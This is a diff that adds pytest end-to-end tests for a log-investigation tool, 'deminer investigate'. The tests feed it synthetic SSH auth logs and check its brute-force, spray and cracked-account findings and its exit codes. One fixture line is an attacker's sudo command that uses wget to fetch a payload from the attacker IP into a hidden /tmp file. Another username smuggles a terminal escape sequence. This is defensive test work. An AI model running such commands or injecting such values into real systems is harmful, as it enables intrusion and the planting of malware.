@@ -1,0 +1,113 @@
+"""``deminer investigate`` end to end: a generated auth log in, exit code and findings out."""
+
+from __future__ import annotations
+
+import datetime as dt
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from deminer.cli import main
+from tests.sources.authlog_gen import AuthLog
+
+FIELDS = {"rule", "title", "severity", "attack", "host", "ts", "entity", "summary", "evidence"}
+START = dt.datetime(2024, 3, 30, 15, 0)
+
+
+def investigate(tmp_path: Path, log: AuthLog, *extra: str) -> tuple[int, list[dict[str, Any]]]:
+    path = log.write(tmp_path / "auth.log")
+    out = tmp_path / "out.jsonl"
+    code = main(["investigate", str(path), "--case", str(tmp_path / "case"), "--jsonl", str(out), *extra])
+    if not out.exists():
+        return code, []
+    return code, [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
+
+
+def by_rule(findings: list[dict[str, Any]], rule: str) -> list[dict[str, Any]]:
+    return [f for f in findings if f["rule"] == rule]
+
+
+def test_cracked_account_exits_1_with_a_complete_finding(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    log = AuthLog(host="Web1", start=START)
+    log.benign_login("alice", "192.0.2.10", typos=1)
+    log.brute_force("203.0.113.7", ["root", "admin\x1b[2J"], attempts=40, success_user="root")
+    log.sudo("root", "/usr/bin/wget -q http://203.0.113.7/kswapd0 -O /tmp/.x")
+    code, findings = investigate(tmp_path, log)
+    assert code == 1                                      # critical >= the default --fail-on high
+    for f in findings:
+        assert set(f) == FIELDS and isinstance(f["attack"], list) and isinstance(f["evidence"], dict)
+    (cracked,) = by_rule(findings, "initial_access.ssh_brute_force_success")
+    success_ts = next(r.ts for r in log.records if r.message.startswith("Accepted password for root"))
+    assert cracked["severity"] == "critical" and cracked["attack"] == ["T1110", "T1078"]
+    assert cracked["host"] == "web1" and cracked["entity"] == "203.0.113.7"
+    assert cracked["ts"] == success_ts.replace(microsecond=0).isoformat() + "Z"     # syslog: whole seconds
+    assert "root" in cracked["summary"] and "40 failed logins" in cracked["summary"]
+    ev = cracked["evidence"]
+    assert (ev["source.ip"], ev["user.name"], ev["method"], ev["failures"]) == \
+        ("203.0.113.7", "root", "password", 40)
+    lines = (tmp_path / "auth.log").read_text().splitlines()
+    assert ev["source"] == str(tmp_path / "auth.log")
+    assert "Accepted password for root from 203.0.113.7" in lines[ev["source_line"] - 1]
+    (guessing,) = by_rule(findings, "credential_access.ssh_brute_force")
+    assert guessing["severity"] == "medium" and guessing["attack"] == ["T1110", "T1110.001"]
+    assert guessing["evidence"]["failures"] == 40 and guessing["evidence"]["users"] == 2
+    first_failure = next(r.ts for r in log.records if r.message.startswith("Failed password")
+                         and "203.0.113.7" in r.message)
+    assert guessing["ts"] == first_failure.replace(microsecond=0).isoformat() + "Z"
+    assert not [f for f in findings if f["entity"] == "192.0.2.10" and "ssh_" in f["rule"]]   # alice's typo
+    # the same findings are in the case folder, and the terminal never gets a raw escape
+    case_copy = [json.loads(x) for x in (tmp_path / "case/findings.jsonl").read_text().splitlines()]
+    assert case_copy == findings
+    shown = capsys.readouterr().out
+    assert "\x1b" not in shown and "ssh_brute_force_success" in shown and "203.0.113.7" in shown
+
+
+def test_guessing_without_success_is_medium(tmp_path: Path) -> None:
+    log = AuthLog(host="web1", start=START)
+    log.brute_force("198.51.100.9", ["root"], attempts=25)
+    log.benign_login("alice", "192.0.2.10")
+    code, findings = investigate(tmp_path, log, "--quiet")
+    assert code == 0                                       # medium < high
+    assert [f["entity"] for f in by_rule(findings, "credential_access.ssh_brute_force")] == ["198.51.100.9"]
+    assert not by_rule(findings, "initial_access.ssh_brute_force_success")
+    code, _ = investigate(tmp_path, log, "--quiet", "--fail-on", "medium")
+    assert code == 1
+
+
+def test_spray_then_hit(tmp_path: Path) -> None:
+    log = AuthLog(host="web1", start=START)
+    users = [f"user{i:02d}" for i in range(14)]
+    log.spray("198.51.100.5", users, existing=frozenset({"user07"}))
+    log.benign_login("user07", "198.51.100.5", method="password")
+    code, findings = investigate(tmp_path, log, "--quiet")
+    assert code == 1
+    (spray,) = by_rule(findings, "credential_access.ssh_password_spray")
+    assert spray["evidence"]["users"] == 14 and spray["attack"] == ["T1110", "T1110.003"]
+    assert not by_rule(findings, "credential_access.ssh_brute_force")       # one attack, one finding
+    (cracked,) = by_rule(findings, "initial_access.ssh_brute_force_success")
+    assert cracked["evidence"]["user.name"] == "user07" and cracked["evidence"]["users"] == 14
+
+
+def test_benign_log_exits_0(tmp_path: Path) -> None:
+    log = AuthLog(host="web1", start=START)
+    for user, ip in (("alice", "192.0.2.10"), ("bob", "192.0.2.11"), ("carol", "192.0.2.12")):
+        log.benign_login(user, ip, typos=2)
+        log.sudo(user, "/usr/bin/systemctl restart nginx")
+    log.cron("root", "/usr/lib/php/sessionclean")
+    code, findings = investigate(tmp_path, log, "--quiet")
+    assert code == 0                     # and no other shipped rule sees anything high in it
+    assert not [f for f in findings if "ssh_" in f["rule"]]
+
+
+def test_bad_indicator_file_exits_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    bad = tmp_path / "iocs.csv"
+    bad.write_text("kind,value\nnot-a-kind,1.2.3.4\n")
+    log = AuthLog(host="web1", start=START)
+    log.brute_force("198.51.100.9", ["root"], attempts=25)
+    code, _ = investigate(tmp_path, log, "--ioc", str(bad))
+    assert code == 2
+    shown = capsys.readouterr().out
+    assert shown.startswith("deminer: error:") and "iocs.csv" in shown and "not-a-kind" in shown
